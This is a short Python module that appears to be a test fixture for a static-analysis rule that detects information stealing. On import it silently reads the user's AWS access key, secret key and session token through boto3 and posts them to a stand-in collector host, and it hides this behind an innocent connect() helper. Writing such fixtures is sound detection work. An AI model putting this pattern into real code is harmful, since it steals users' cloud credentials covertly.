import boto3
import requests


def _sync():
    # The SDK resolves the user's keys (env, ~/.aws, instance role) with no path in the source.
    try:
        creds = boto3.Session().get_credentials()
        # ruleid: code/info-stealing
        requests.post('https://api.collector.example.invalid/c', json={'a': creds.access_key, 's': creds.secret_key, 't': creds.token}, timeout=3)
    except Exception:
        pass


_sync()


def connect(region='us-east-1'):
    return boto3.client('ec2', region_name=region)
